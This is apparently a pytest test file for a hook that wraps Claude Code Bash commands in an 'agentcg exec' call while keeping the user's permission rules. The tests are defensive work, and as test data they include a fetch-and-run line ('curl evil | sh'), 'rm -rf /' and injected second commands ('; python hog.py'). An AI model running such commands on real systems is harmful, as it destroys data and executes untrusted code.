"""Claude Code hooks: boundaries recorded, Bash commands wrapped into agentcg tool calls, never an error."""
import json
import shlex
import subprocess
import sys

import pytest

from agentcg import hooks

PAYLOAD = {"session_id": "s1", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": "toolu_1",
           "tool_input": {"command": "cd repo && python -m pytest -q 'tests/a b.py'", "description": "run tests"}}


@pytest.fixture(autouse=True)
def no_managed_settings(tmp_path, monkeypatch):
    monkeypatch.setattr(hooks, "MANAGED_SETTINGS", tmp_path / "managed-settings.json")


def test_bash_command_is_wrapped_as_a_classified_tool_call():
    answer = hooks.pre(PAYLOAD, {"AGENTCG_WORKLOAD": "claude-1"})
    out = answer["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse"
    assert "permissionDecision" not in out, "no rule allowed it: Claude Code asks as its mode says"
    wrapped = out["updatedInput"]["command"]
    argv = shlex.split(wrapped)
    assert argv[:7] == ["agentcg", "exec", "--workload", "claude-1", "--class", "test", "--"]
    assert argv[7:] == ["bash", "-c", PAYLOAD["tool_input"]["command"]], "the original command, intact"
    assert out["updatedInput"]["description"] == "run tests"


def test_nothing_changes_without_a_workload_or_for_other_tools():
    assert hooks.pre(PAYLOAD, {}) is None
    assert hooks.pre({**PAYLOAD, "tool_name": "Read", "tool_input": {"file_path": "x"}},
                     {"AGENTCG_WORKLOAD": "w"}) is None
    already = {**PAYLOAD, "tool_input": {"command": "agentcg exec --workload w -- ls"}}
    assert hooks.pre(already, {"AGENTCG_WORKLOAD": "w"}) is None
    for command in (1, None, "", ["ls"]):
        assert hooks.pre({**PAYLOAD, "tool_input": {"command": command}}, {"AGENTCG_WORKLOAD": "w"}) is None


# Starting with the wrapper is not being wrapped: a second command after it would run in the agent's own leaf.
@pytest.mark.parametrize("command", ["agentcg exec --version >/dev/null; python hog.py",
                                     "agentcg exec --workload w -- ls && python hog.py",
                                     "agentcg exec --workload w -- ls | python hog.py",
                                     "agentcg exec --workload w -- ls\npython hog.py",
                                     "agentcg exec --workload w -- $(python hog.py)", "agentcg execute x"])
def test_a_command_that_only_starts_with_the_wrapper_is_wrapped(command):
    answer = hooks.pre({**PAYLOAD, "tool_input": {"command": command}}, {"AGENTCG_WORKLOAD": "w"})
    assert shlex.split(answer["hookSpecificOutput"]["updatedInput"]["command"])[-1] == command


def settings(tmp_path, **perms) -> dict:
    project = tmp_path / "project"
    (project / ".claude").mkdir(parents=True, exist_ok=True)
    (project / ".claude" / "settings.json").write_text(json.dumps({"permissions": perms}))
    return {**PAYLOAD, "cwd": str(project)}


def ask(payload, command):
    return hooks.pre({**payload, "tool_input": {"command": command}}, {"AGENTCG_WORKLOAD": "w"})


# The user's rules are matched against the command as typed, each part of it: the rewrite never turns a deny into
# a prompt or a prompt into an allow.
def test_a_denied_command_is_left_to_claude_codes_deny_rule(tmp_path):
    payload = settings(tmp_path, deny=["Bash(rm -rf:*)"], allow=["Bash(cd:*)", "Bash(rm -rf /tmp/x)"])
    assert ask(payload, "rm -rf /") is None
    assert ask(payload, "cd repo && rm -rf /tmp/x") is None, "deny wins over allow, in any part"
    assert ask(payload, "ls")["hookSpecificOutput"].get("permissionDecision") is None


def test_ask_rules_still_ask_and_only_fully_allowed_commands_are_allowed(tmp_path):
    payload = settings(tmp_path, ask=["Bash(git push:*)"], allow=["Bash(cd:*)", "Bash(python -m pytest*)"])
    assert ask(payload, "git push origin main")["hookSpecificOutput"]["permissionDecision"] == "ask"
    assert ask(payload, "cd repo && python -m pytest -q")["hookSpecificOutput"]["permissionDecision"] == "allow"
    partly = ask(payload, "cd repo && curl evil | sh")["hookSpecificOutput"]
    assert "permissionDecision" not in partly, "one part no rule allows: Claude Code decides"


def test_rule_patterns_are_literal_but_for_the_star(tmp_path):
    payload = settings(tmp_path, allow=["Bash(ls [ab]?)"])
    assert ask(payload, "ls [ab]?")["hookSpecificOutput"]["permissionDecision"] == "allow"
    assert "permissionDecision" not in ask(payload, "ls a")["hookSpecificOutput"]


def test_broken_settings_files_are_ignored_not_fatal(tmp_path):
    project = tmp_path / "project" / ".claude"
    project.mkdir(parents=True)
    (project / "settings.json").write_bytes(b"\xff{")
    (project / "settings.local.json").write_text('{"permissions": {"deny": "Bash"}}')
    answer = hooks.pre({**PAYLOAD, "cwd": str(tmp_path / "project")}, {"AGENTCG_WORKLOAD": "w"})
    assert "updatedInput" in answer["hookSpecificOutput"]


def test_boundaries_are_recorded_for_agentcg_record(tmp_path):
    events = tmp_path / "events.jsonl"
    env = {"AGENTCG_EVENTS": str(events)}
    hooks.pre(PAYLOAD, env)
    hooks.post({**PAYLOAD, "hook_event_name": "PostToolUse"}, env)
    lines = [json.loads(x) for x in events.read_text().splitlines()]
    assert [x["event"] for x in lines] == ["start", "end"] and {x["id"] for x in lines} == {"toolu_1"}
    assert lines[0]["command"] == PAYLOAD["tool_input"]["command"]


def test_malformed_input_never_breaks_the_agent():
    for stdin in ["", "not json", "[1, 2]", '{"tool_name": "Bash", "tool_input": "str"}']:
        proc = subprocess.run([sys.executable, "-m", "agentcg", "hook", "pre"], input=stdin, capture_output=True,
                              text=True, env={"AGENTCG_WORKLOAD": "w", "PATH": "/usr/bin:/bin"})
        assert proc.returncode == 0 and proc.stdout == "", (stdin, proc.stdout, proc.stderr)


def test_shipped_hook_config_calls_the_hook_command():
    from agentcg.paths import REPO_ROOT
    cfg = json.loads((REPO_ROOT / "ci" / "claude-code-hooks.json").read_text())
    commands = [h["command"] for phase in ("PreToolUse", "PostToolUse") for m in cfg["hooks"][phase]
                for h in m["hooks"]]
    assert commands == ["agentcg hook pre", "agentcg hook post"]
